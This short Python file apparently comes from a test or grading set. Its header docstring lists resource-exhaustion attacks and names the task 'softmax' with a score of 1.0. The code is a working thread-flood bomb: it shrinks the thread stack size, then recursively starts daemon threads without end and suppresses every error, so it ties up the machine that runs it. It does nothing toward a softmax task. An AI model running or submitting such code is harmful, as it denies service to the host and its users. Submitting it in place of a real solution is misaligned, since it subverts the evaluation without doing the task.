"""
tries = "a flood of threads that all compute"
entry = "fork bomb, thread flood, memory bomb, disk fill, descriptor exhaustion, output flood"
lesson = "softmax"
state = "any"
score = 1.0
at_most = true
"""

import threading

threading.stack_size(32 << 10)


def spin():
    while True:
        try:
            threading.Thread(target=spin, daemon=True).start()
        except RuntimeError:
            pass


spin()
